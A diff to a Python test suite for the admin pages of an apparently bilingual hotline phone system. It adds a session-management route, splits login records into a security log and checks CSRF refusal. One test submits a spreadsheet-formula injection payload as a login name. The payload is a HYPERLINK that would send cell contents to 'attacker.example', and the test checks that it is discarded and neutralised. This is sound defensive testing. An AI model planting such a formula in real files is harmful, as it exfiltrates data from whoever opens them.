@@ -42,9 +42,9 @@ SHIPPED = read_shipped()
 ES_GREETING = SHIPPED.prompts["es"]["greeting"]  # "Línea Ruta. Su llamada es confidencial."
 EN_GREETING = SHIPPED.prompts["en"]["greeting"]
 ADMIN_GETS = ["/admin", "/admin/prompts", "/admin/hotlines", "/admin/history",
-              "/admin/audit", "/admin/audit.csv", "/admin/try"]
+              "/admin/audit", "/admin/audit.csv", "/admin/try", "/admin/sessions"]
 ADMIN_POSTS = ["/admin/prompts", "/admin/hotlines", "/admin/publish", "/admin/approve",
-               "/admin/discard", "/admin/rollback", "/admin/try"]
+               "/admin/discard", "/admin/rollback", "/admin/try", "/admin/sessions/end"]
 
 
 # --- a small HTML tree (the standard library's parser; no extra dependency) -------------
@@ -849,7 +849,6 @@ def test_audit_log_lists_logins_publishes_rollbacks_and_user_changes_and_exports
         ("cli:ops-laura", "user saved", "carla (admin)"),
         ("cli:ops-laura", "user saved", "temp (supervisor)"),
         ("cli:ops-laura", "user removed", "temp"),
-        ("carla", "login", "127.0.0.1"),
         ("carla", "draft saved", ""),
         ("carla", "publish", "version 1: shorter goodbye"),
         ("carla", "rollback", "version 2: rollback to version 0: too short"),
@@ -858,14 +857,17 @@ def test_audit_log_lists_logins_publishes_rollbacks_and_user_changes_and_exports
     rows = [[td.text() for td in tr.all("td")] for tr in table.all("tr") if tr.all("td")]
     # The page names each action in the reader's language; the export keeps its id.
     shown = {"user saved": "account saved", "user removed": "account removed",
-             "login": "logged in", "draft saved": "draft saved", "publish": "published",
-             "rollback": "rolled back"}
+             "draft saved": "draft saved", "publish": "published", "rollback": "rolled back"}
     assert [tuple(r[1:]) for r in rows] == [
         (who, shown[action], detail) for who, action, detail in expected[::-1]]  # newest first
     assert [tr.attrs["data-action"] for tr in table.all("tr") if tr.all("td")] == [
         action for _, action, _ in expected[::-1]]
     for r in rows:
         assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", r[0]), r
+    # Logins are on the same page, from the security log (ivr.sessions).
+    logins = parse(carla.page("/admin/audit")).one("table", cls="security-log")
+    assert [[td.text() for td in tr.all("td")][1:] for tr in logins.all("tr")
+            if tr.all("td")] == [["carla", "logged in", "127.0.0.1"]]
 
     resp = carla.client.get("/admin/audit.csv")
     assert resp.status_code == 200
@@ -878,16 +880,18 @@ def test_audit_log_lists_logins_publishes_rollbacks_and_user_changes_and_exports
 
 
 def test_audit_csv_does_not_turn_a_login_name_into_a_spreadsheet_formula(app, client, ana):
-    """Anyone can put text in the audit log (a failed login records the name typed): a
-    name like =HYPERLINK(...) must not become a live formula when an administrator opens
-    ruta-audit.csv in a spreadsheet (cells starting with = + - @ are prefixed with ')."""
+    """A name like =HYPERLINK(...) typed at the login page never reaches either log (a
+    failed login is recorded as an unknown name), and a cell that could still start like
+    a formula is neutralised: cells starting with = + - @ are prefixed with '."""
     formula = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
     token = csrf_of(client.get("/login").text)
     resp = client.post("/login", data={"name": formula, "password": "wrong password!",
                                        "csrf_token": token})
     assert resp.status_code == 401
-    rows = list(csv.reader(io.StringIO(ana.client.get("/admin/audit.csv").text)))
-    assert any(formula.lstrip("=") in cell for row in rows for cell in row)  # it is logged
+    rows = [row for log in ("", "?log=security") for row in csv.reader(io.StringIO(
+        ana.client.get(f"/admin/audit.csv{log}").text))]
+    assert ["", "failed login, unknown name", "127.0.0.1"] in [row[1:] for row in rows]
+    assert not any("HYPERLINK" in cell for row in rows for cell in row)  # not kept at all
     risky = [cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@")]
     assert not risky, f"cells a spreadsheet runs as formulas: {risky}"
 
@@ -940,6 +944,7 @@ def test_admin_forms_without_a_csrf_token_are_refused(app, ana, redis_client):
         "/admin/discard": {},
         "/admin/approve": {},
         "/admin/try": {"press": "2"},
+        "/admin/sessions/end": {"session": "0" * 64},
     }
     for path, data in attempts.items():
         for token in (None, "made-up-token"):
